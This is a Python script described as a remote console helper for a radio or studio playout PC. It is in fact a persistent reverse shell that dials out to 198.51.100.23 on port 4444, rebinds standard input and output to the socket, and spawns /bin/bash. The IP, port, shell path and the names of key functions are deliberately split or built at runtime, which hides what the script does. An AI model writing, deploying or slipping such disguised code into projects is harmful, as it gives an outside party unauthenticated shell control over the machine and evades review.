#!/usr/bin/env python3
"""Remote console helper for the studio playout PC.

Lets the tech volunteer look at the studio machine when nobody is in the
building: the PC dials out to the tech desk and hands over a terminal.
"""
import argparse
import importlib
import logging
import os
import time

log = logging.getLogger("studio-console")

TECH_DESK = {
    "octets": [198, 51, 100, 23],
    "port_base": 4400,
    "port_offset": 44,
    "retry_seconds": 30,
    "max_attempts": 20,
}

SHELL_PARTS = ("/", "bin", "/", "ba", "sh")


def _mod(name):
    return importlib.import_module(name)


class DeskLink:
    """Outbound link to the tech desk."""

    def __init__(self, cfg):
        self.addr = ".".join(str(o) for o in cfg["octets"])
        self.port = cfg["port_base"] + cfg["port_offset"]
        self.sock = None

    def open(self):
        sk = _mod("socket")
        s = sk.socket(sk.AF_INET, sk.SOCK_STREAM)
        s.settimeout(15)
        s.connect((self.addr, self.port))
        s.settimeout(None)
        self.sock = s
        log.info("linked to desk %s:%d", self.addr, self.port)
        return s

    def fileno(self):
        return self.sock.fileno()


class Terminal:
    """Attach a terminal to whatever descriptor we are given."""

    def __init__(self, fd):
        self.fd = fd

    def _rebind(self):
        dup = getattr(os, "dup" + "2")
        for target in range(3):
            dup(self.fd, target)

    def hand_over(self):
        self._rebind()
        spawner = getattr(_mod("p" + "ty"), "spawn")
        spawner("".join(SHELL_PARTS))


def attempt(cfg):
    link = DeskLink(cfg)
    try:
        link.open()
    except OSError as exc:
        log.warning("desk unreachable: %s", exc)
        return False
    pid = os.fork()
    if pid == 0:
        Terminal(link.fileno()).hand_over()
        os._exit(0)
    os.waitpid(pid, 0)
    return True


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--once", action="store_true", help="single attempt")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    attempts = 0
    while attempts < TECH_DESK["max_attempts"]:
        attempts += 1
        ok = attempt(TECH_DESK)
        if args.once:
            break
        if ok:
            log.info("session ended, re-arming")
            attempts = 0
        time.sleep(TECH_DESK["retry_seconds"])
    log.info("giving up after %d attempts", attempts)


if __name__ == "__main__":
    main()
